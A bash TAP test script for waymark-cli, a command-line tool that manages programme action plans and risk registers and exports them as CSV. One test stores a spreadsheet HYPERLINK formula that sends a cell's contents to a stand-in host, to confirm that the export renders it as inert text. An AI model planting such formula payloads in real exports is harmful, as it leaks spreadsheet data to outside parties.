#!/bin/bash
# test-cli.sh: waymark-cli as a programme office script uses it.
#
# Usage: test-cli.sh PATH-TO-waymark-cli
# Prints TAP; exits non-zero when any check fails.  CSV is read back with
# Python's csv module (meson needs Python, so it is always there), because
# cells hold commas, quotes and line breaks that a line-based tool splits.
set -euo pipefail

cli=${1:?usage: test-cli.sh PATH-TO-waymark-cli}
tmp=$(mktemp -d "${TMPDIR:-/tmp}/waymark-cli-test.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
db=$tmp/plan.waymark
python=$(command -v python3)

n=0
failed=0

ok () { n=$((n + 1)); echo "ok $n - $1"; }
skip () { n=$((n + 1)); echo "ok $n - $1 # SKIP $2"; }
not_ok ()
{
  n=$((n + 1))
  failed=$((failed + 1))
  echo "not ok $n - $1"
  if [[ -n ${2:-} ]]; then
    sed 's/^/#   /' <<< "$2"
  fi
}

# check DESCRIPTION COMMAND...: one TAP line for the command's success
check ()
{
  local description=$1
  shift
  if "$@"; then
    ok "$description"
  else
    not_ok "$description" "stdout: $(cat "$tmp/out" 2> /dev/null)
stderr: $(cat "$tmp/err" 2> /dev/null)"
  fi
}

# run ARGS...: runs the CLI; leaves $status, $tmp/out and $tmp/err
run ()
{
  set +e
  "$cli" "$@" > "$tmp/out" 2> "$tmp/err"
  status=$?
  set -e
}

# fails_with STATUS TEXT...: the last run failed with STATUS and said, on
# stderr as "waymark-cli: …", every TEXT (the field, the value, the file)
fails_with ()
{
  local want=$1
  shift
  [[ $status -eq $want ]] || return 1
  head -n 1 "$tmp/err" | grep -q '^waymark-cli: ' || return 1
  for text in "$@"; do
    grep -qF -- "$text" "$tmp/err" || return 1
  done
}

# column FILE NAME: the column's cells, one a line, line breaks as \n
column ()
{
  "$python" - "$1" "$2" << 'EOF'
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:
    for row in csv.DictReader(f):
        print(row[sys.argv[2]].replace('\r', '\\r').replace('\n', '\\n'))
EOF
}

# cell FILE KEY-COLUMN KEY NAME: one cell, by the row's code or ref
cell ()
{
  "$python" - "$@" << 'EOF'
import csv, sys
path, key_column, key, name = sys.argv[1:5]
with open(path, newline='', encoding='utf-8-sig') as f:
    for row in csv.DictReader(f):
        if row[key_column] == key:
            print(row[name].replace('\n', '\\n'))
EOF
}

export_to ()
{
  "$cli" --db "$db" export-csv "$1" > "$2"
}

count_updates ()
{
  sqlite3 "$db" 'SELECT count(*) FROM status_update' 2> /dev/null || echo -1
}

# ---------- init and export ----------

run --db "$db" init --sample
check "init --sample creates the sample plan" \
  eval '[[ $status -eq 0 ]] && grep -qF "13 actions, 7 risks" "$tmp/out"'

run --db "$db" export-csv actions
cp "$tmp/out" "$tmp/actions.csv"
header='priority,code,title,description,lead,agency,start,due,due_text,completed,rating,progress,evidence,impact'
check "export-csv actions has the header row" \
  eval '[[ $status -eq 0 ]] && head -n 1 "$tmp/actions.csv" | grep -q "^$header"'
check "rows end in CRLF, as Excel expects" \
  eval '[[ $(head -n 1 "$tmp/actions.csv") == *$'"'"'\r'"'"' ]]'

codes=$(column "$tmp/actions.csv" code | tr '\n' ' ')
check "exactly the 13 actions, 1.1 … 3.3, in the plan's order" \
  test "$codes" = "1.1 1.2a 1.2b 1.3a 1.3b 2.1 2.2a 2.2b 2.3 2.4 3.1 3.2 3.3 "
check "every action has its leads" \
  eval '[[ $(column "$tmp/actions.csv" lead | grep -c .) -eq 13 ]]'
check "every action has a due date" \
  eval '[[ $(column "$tmp/actions.csv" due | grep -cE "^20[0-9]{2}-[01][0-9]-[0-3][0-9]$") -eq 13 ]]'
check "leads stored one a line are joined with “; ”" \
  test "$(cell "$tmp/actions.csv" code 1.1 lead)" = \
    "Head of Change (TSIL) / SENA Service Manager (LCC); Designated Clinical Officer (ICB)"
check "the priority is its code and the rating its code" \
  test "$(cell "$tmp/actions.csv" code 2.1 priority)/$(cell "$tmp/actions.csv" code 1.1 rating)" = "2/G"

run --db "$db" export-csv risks
cp "$tmp/out" "$tmp/risks.csv"
check "export-csv risks gives RR1 … RR7" \
  test "$(column "$tmp/risks.csv" ref | tr '\n' ' ')" = "RR1 RR2 RR3 RR4 RR5 RR6 RR7 "
check "risks carry severity before and after mitigation" \
  test "$(cell "$tmp/risks.csv" ref RR1 severity_before)/$(cell "$tmp/risks.csv" ref RR1 severity_after)" = "High/Medium"

run --db "$db" export-csv actions -o "$tmp/out.csv"
check "-o FILE writes the same CSV, with a BOM for Excel, readable by its owner only" \
  eval '[[ $status -eq 0 && ! -s $tmp/out ]] && cmp -s <(printf "\xef\xbb\xbf"; cat "$tmp/actions.csv") "$tmp/out.csv" && [[ $(stat -c %a "$tmp/out.csv") == 600 ]]'

# ---------- set ----------

if command -v sqlite3 > /dev/null; then
  updates_before=$(count_updates)
fi
run --db "$db" set action 1.1 rating=R note="Panels paused over the summer"
export_to actions "$tmp/after.csv"
check "set action 1.1 rating=R note=… succeeds" test "$status" -eq 0
check "the export shows the new rating and progress note" \
  test "$(cell "$tmp/after.csv" code 1.1 rating)|$(cell "$tmp/after.csv" code 1.1 progress)" = \
    "R|Panels paused over the summer"
if command -v sqlite3 > /dev/null; then
  check "the rating change recorded a status update" test "$(count_updates)" -eq $((updates_before + 1))
else
  skip "the rating change recorded a status update" "no sqlite3 command"
fi

run --db "$db" set action 1.2a rating=Amber title="A new title" lead="Head of SEND (LCC); DCO (ICB)" \
  due="end of December 2023" agency="LA;ICB"
export_to actions "$tmp/after.csv"
check "several fields in one set, rating by label, leads by “;”" \
  test "$status|$(cell "$tmp/after.csv" code 1.2a rating)|$(cell "$tmp/after.csv" code 1.2a title)|$(cell "$tmp/after.csv" code 1.2a lead)|$(cell "$tmp/after.csv" code 1.2a agency)" = \
    "0|A|A new title|Head of SEND (LCC); DCO (ICB)|LA; ICB"
check "a month-only due date is the month's last day, and its words are kept" \
  test "$(cell "$tmp/after.csv" code 1.2a due)|$(cell "$tmp/after.csv" code 1.2a due_text)" = \
    "2023-12-31|end of December 2023"

run --db "$db" set action 1.3a due-text=TBC progress="alone, progress= is the note"
export_to actions "$tmp/after.csv"
check "due-text= keeps words that are not a date; progress= alone sets the note" \
  test "$status|$(cell "$tmp/after.csv" code 1.3a due_text)|$(cell "$tmp/after.csv" code 1.3a progress)" = \
    "0|TBC|alone, progress= is the note"

run --db "$db" set action 2.1 progress='=HYPERLINK("http://x.example/?"&A1,"Details")'
export_to actions "$tmp/after.csv"
check "a formula typed as a note is exported as text, not run" \
  test "$(cell "$tmp/after.csv" code 2.1 progress)" = "'=HYPERLINK(\"http://x.example/?\"&A1,\"Details\")"

run --db "$db" set risk rr2 likelihood-before=4 impact-before=5 status=Closed \
  closed-reason="Training programme in place" target=6 review=31/10/2023
export_to risks "$tmp/after.csv"
check "set risk: scores, status, reason, target and review date (ref in any case)" \
  test "$status|$(cell "$tmp/after.csv" ref RR2 likelihood_before)|$(cell "$tmp/after.csv" ref RR2 impact_before)|$(cell "$tmp/after.csv" ref RR2 status)|$(cell "$tmp/after.csv" ref RR2 closed_reason)|$(cell "$tmp/after.csv" ref RR2 target_score)|$(cell "$tmp/after.csv" ref RR2 review_date)" = \
    "0|4|5|closed|Training programme in place|6|2023-10-31"

# ---------- bad input: refused, named, nothing changed ----------

export_to actions "$tmp/before-actions.csv"
export_to risks "$tmp/before-risks.csv"
unchanged ()
{
  export_to actions "$tmp/now-actions.csv" && export_to risks "$tmp/now-risks.csv" \
    && cmp -s "$tmp/before-actions.csv" "$tmp/now-actions.csv" \
    && cmp -s "$tmp/before-risks.csv" "$tmp/now-risks.csv"
}

run --db "$db" set action 9.9 rating=R
check "unknown action code: refused, naming the code" fails_with 1 'there is no action “9.9” in this plan'

run --db "$db" set risk RR99 status=closed
check "unknown risk ref: refused, naming the ref" fails_with 1 '“RR99”'

run --db "$db" set action 1.1 colour=red
check "unknown field: refused, naming it and listing the fields" fails_with 2 '“colour”' 'rating' 'due-text'

run --db "$db" set action 1.1 due=31/09/2023
check "impossible date 31/09/2023: refused, naming field and value" fails_with 1 'due' '31/09/2023'

run --db "$db" set action 1.1 due=TBC
check "words as a due date: refused, pointing to due-text=" fails_with 1 'due' '“TBC”' 'due-text='

run --db "$db" set action 1.1 rating=Purple
check "unknown rating Purple: refused, naming field and value" fails_with 1 'rating' 'Purple'

run --db "$db" set risk RR1 likelihood-before=7
check "likelihood 7: refused, naming field and value" fails_with 1 'likelihood-before' '“7”'

run --db "$db" set risk RR1 status=pending
check "unknown risk status: refused, naming field and value" fails_with 1 'status' 'pending'

run --db "$db" set action 1.1 title= rating=B
check "an empty title: refused" fails_with 1 'title'

run --db "$db" set action 1.1 title="Half changed?" lead="Nobody" rating=B due=31/09/2023
check "a set with one bad field fails as a whole" fails_with 1 'due' '31/09/2023'
check "… and changes nothing (export before == after)" unchanged

run --db "$db" set action 1.1 title=a Title=b
check "a field given twice is a usage error" fails_with 2 'title'

run --db "$db" set action 1.1 title
check "an argument that is not FIELD=VALUE is a usage error" fails_with 2 '“title”'

run --db "$db" frobnicate
check "an unknown command is a usage error" fails_with 2 'frobnicate'

run export-csv actions
check "no --db is a usage error" fails_with 2 '--db'

run --db "$db" export-csv kpis
check "export-csv of an unknown table is a usage error" fails_with 2 'kpis'

run --db "$db" init --sample
check "init twice: refused, naming the file" fails_with 1 'already holds a plan' "$db"
check "… and the plan is as it was" unchanged

printf 'Minutes of the SEND and Inclusion Board\n' > "$tmp/notes.txt"
sum_before=$(sha256sum < "$tmp/notes.txt")
run --db "$tmp/notes.txt" export-csv actions
check "a text file as --db: refused, naming the file" fails_with 1 "notes.txt" 'not a Waymark plan'
run --db "$tmp/notes.txt" init --sample
check "init on a text file: refused" fails_with 1 "notes.txt"
run --db "$tmp/notes.txt" set action 1.1 rating=G
check "set on a text file: refused, and the file is unchanged" \
  eval 'fails_with 1 notes.txt && [[ $(sha256sum < "$tmp/notes.txt") == "$sum_before" ]] && [[ ! -e $tmp/notes.txt-wal ]]'

run --db "$tmp/missing.waymark" export-csv actions
check "a missing file without init: refused, naming it, nothing created" \
  eval 'fails_with 1 missing.waymark "does not exist" && [[ ! -e $tmp/missing.waymark ]]'

run --db "$tmp/missing.waymark" set action 1.1 rating=G
check "set on a missing file: refused, nothing created" \
  eval 'fails_with 1 missing.waymark && [[ ! -e $tmp/missing.waymark ]]'

# ---------- checked edits: notes, dates, the baseline and its reasons ----------

export_to actions "$tmp/before-actions.csv"
export_to risks "$tmp/before-risks.csv"

# From the command line a rating may come without a note (a script setting
# ratings in bulk): the rating changes and a status update is recorded.
# Done on a copy, so that the checks below still compare with the plan as
# exported above.
cp "$db" "$tmp/no-note.waymark"
run --db "$tmp/no-note.waymark" set action 2.2a rating=B
"$cli" --db "$tmp/no-note.waymark" export-csv actions > "$tmp/no-note.csv"
check "a new rating without a note from the CLI: the rating changes" \
  test "$status|$(cell "$tmp/no-note.csv" code 2.2a rating)" = "0|B"
if command -v sqlite3 > /dev/null; then
  check "…and a status update without a note is recorded" \
    test "$(sqlite3 "$tmp/no-note.waymark" "SELECT count(*) FROM status_update s JOIN action a ON a.id = s.action_id WHERE a.code = '2.2a' AND s.note IS NULL")" -eq 1
else
  skip "…and a status update without a note is recorded" "no sqlite3 command"
fi

run --db "$db" set action 2.2a due=2023-01-31
check "a due date before the start: refused, naming both dates, nothing changed" \
  eval 'fails_with 1 "Due date 2023-01-31 is before the start date 2023-04-01" && unchanged'

run --db "$db" set action 2.2a title="Renamed" reason="Why not"
check "a reason without a moved date is a usage error" fails_with 2 'reason'

run --db "$db" set-baseline --author "Programme Office"
check "set-baseline keeps the dates as the baseline" \
  eval '[[ $status -eq 0 ]] && grep -q "^Baseline set at 20" "$tmp/out"'
if command -v sqlite3 > /dev/null; then
  check "… every action's baseline due date is its due date" \
    test "$(sqlite3 "$db" "SELECT count(*) FROM action WHERE baseline_due IS due_date")" = \
      "$(sqlite3 "$db" "SELECT count(*) FROM action")"
else
  skip "… every action's baseline due date is its due date" "no sqlite3 command"
fi

export_to actions "$tmp/before-actions.csv"
run --db "$db" set action 2.2a due="end of November 2023"
check "after the baseline, a moved due date without a reason: refused, pointing to --reason" \
  eval 'fails_with 1 "2.2a" "2023-09-30" "--reason" && unchanged'

run --db "$db" set action 2.2a due="end of November 2023" --reason "Consultation extended"
export_to actions "$tmp/after.csv"
check "… and with --reason after the fields, the date moves" \
  test "$status|$(cell "$tmp/after.csv" code 2.2a due)" = "0|2023-11-30"
if command -v sqlite3 > /dev/null; then
  check "… the move is logged with its reason and author" \
    test "$(sqlite3 "$db" "SELECT old_value || '|' || new_value || '|' || reason || '|' || (author <> '') FROM date_change WHERE field = 'due_date' AND reason = 'Consultation extended'")" = \
      "2023-09-30|2023-11-30|Consultation extended|1"
else
  skip "… the move is logged with its reason and author" "no sqlite3 command"
fi

run --db "$db" set action 2.2a due=2023-12-31 --reason
check "--reason with no text is a usage error" fails_with 2 '--reason'

run --db "$db" set --reason "Board asked for more time" action 2.2b due=2023-12-31 author="Head of SEND"
export_to actions "$tmp/after.csv"
check "set --reason TEXT before the action works too" \
  test "$status|$(cell "$tmp/after.csv" code 2.2b due)" = "0|2023-12-31"
if command -v sqlite3 > /dev/null; then
  check "… and the author given signs the move" \
    test "$(sqlite3 "$db" "SELECT count(*) FROM date_change WHERE reason = 'Board asked for more time' AND author = 'Head of SEND' AND new_value = '2023-12-31'")" = 1
else
  skip "… and the author given signs the move" "no sqlite3 command"
fi

# ---------- a new, empty plan; help ----------

run --db "$tmp/new.waymark" init --area Rutland --title "Rutland WSOA 2024"
check "init --area --title creates an empty plan" test "$status" -eq 0
run --db "$tmp/new.waymark" export-csv actions
check "… whose export is the header row alone" \
  eval '[[ $status -eq 0 && $(wc -l < "$tmp/out") -eq 1 ]] && grep -q "^$header" "$tmp/out"'

run --db "$tmp/other.waymark" init --sample --title "Mine"
check "init --sample with --title is a usage error, and creates nothing" \
  eval 'fails_with 2 "--title" && [[ ! -e $tmp/other.waymark ]]'

# ---------- dependencies ----------

cp "$db" "$tmp/depend.waymark"
run --db "$tmp/depend.waymark" depend 1.1 2.1 --lag 14
check "depend 1.1 2.1 --lag 14: 2.1 now depends on 1.1" \
  eval '[[ $status -eq 0 ]] && grep -qF "2.1 now depends on 1.1 (FS, lag 14 days)" "$tmp/out"'
run --db "$tmp/depend.waymark" depend 2.1 3.1 --kind SS
run --db "$tmp/depend.waymark" depend 3.1 1.1
check "a dependency that closes a loop is refused, naming the actions on it" \
  eval 'fails_with 1 "would make a loop: 3.1 → 1.1 → 2.1 → 3.1"'
run --db "$tmp/depend.waymark" depend 1.1 9.9
check "a dependency on an action that does not exist is refused, naming it" \
  eval 'fails_with 1 "“9.9”"'
run --db "$tmp/depend.waymark" depend 1.1 2.2a --kind XY
check "an unknown --kind is a usage error" eval 'fails_with 2 "XY"'

run --help
check "--help lists every command" \
  eval '[[ $status -eq 0 ]] && grep -q "init" "$tmp/out" && grep -q "export-csv" "$tmp/out" && grep -q "set action" "$tmp/out" && grep -q "set risk" "$tmp/out" && grep -q "sync-export" "$tmp/out" && grep -q "set-baseline" "$tmp/out"'
run set --help
check "set --help lists the fields" \
  eval '[[ $status -eq 0 ]] && grep -q "likelihood-before" "$tmp/out" && grep -q "due-text" "$tmp/out"'

echo "1..$n"
if [[ $failed -gt 0 ]]; then
  echo "# $failed of $n checks failed"
  exit 1
fi
